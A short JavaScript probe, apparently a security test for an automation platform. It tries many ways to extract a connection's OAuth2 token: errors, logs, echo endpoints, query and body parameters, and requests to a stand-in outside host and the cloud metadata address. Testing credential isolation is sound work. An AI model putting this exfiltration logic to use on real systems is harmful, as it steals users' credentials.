// Tries to get hold of the credential of a connection, and tells all it gets.

const name = engine.findDataByVarName("q_name"), url = engine.findDataByVarName("q_url");
const forms = (text) => [
  text, base64.encodeToString(text), base64.encodeToString("x" + text), base64.encodeToString("xy" + text), encodeURIComponent(text), encodeURI(text),
  JSON.stringify(text), JSON.stringify(JSON.stringify(text)), JSON.stringify({ text }),
];
const all = [];
const tell = (what, text) => { console.log(what, text); all.push(text); };
const attempt = (what, f) => {
  try {
    const got = String(f());
    tell(what, got.length < 200 ? forms(got).join("\n") : got + JSON.stringify(got));
  } catch (e) {
    tell(what, String(e));
    tell(what, String(e.stack));
    tell(what, JSON.stringify(e));
    for (const k of Object.getOwnPropertyNames(e)) tell(what + " " + k, String(e[k]));
  }
};
const token = () => httpClient.getOAuth2Token(name);
const auth = () => httpClient.begin().authSetting(name);
attempt("token", token);
attempt("info", () => { const i = httpClient.getOAuth2TokenInfo(name); return JSON.stringify(i) + Object.keys(i).map((k) => i[k]) });
attempt("throw", () => { throw new Error(forms(token()).join()) });
for (const path of ["/api/echo", "/api/html", "/api/proxy", "/nowhere"]) {
  attempt(path, () => auth().get(url + path).getResponseAsString());
}
attempt("header", () => { const r = auth().get(url + "/api/echo"); return [...r.getHeaderValues("X-Repeated"), ...r.getHeaderValues("Set-Cookie")] });
attempt("post", () => auth().formParam("t", "x").queryParam("q", "y").post(url + "/api/echo").getResponseAsString());
attempt("bearer", () => httpClient.begin().bearer(token()).get(url + "/api/echo").getResponseAsString());
attempt("form", () => httpClient.begin().formParam("t", token()).post(url + "/api/echo").getResponseAsString());
attempt("body", () => httpClient.begin().body(JSON.stringify({ t: token() }), "application/json").post(url + "/api/echo").getResponseAsString());
attempt("query", () => httpClient.begin().queryParam("t", token()).get(url + "/api/echo").getResponseAsString());
attempt("path", () => httpClient.begin().get(url + "/api/" + encodeURIComponent(token())).getResponseAsString());
attempt("another's", () => httpClient.begin().get(url + "/api/echo").getResponseAsString());
for (const elsewhere of ["http://127.0.0.1:1/", "https://elsewhere.example.com/", "http://169.254.169.254/"]) {
  attempt(elsewhere, () => auth().get(elsewhere + "?" + token()));
  attempt(elsewhere, () => httpClient.begin().bearer(token()).queryParam("t", token()).post(elsewhere));
}
attempt("renewal", () => auth().get(url + "/api/401").getResponseAsString());
engine.setDataByVarName("q_out", all.join("\n"));
engine.setDataByVarName("q_list", { all, [all[0]]: all[0] });
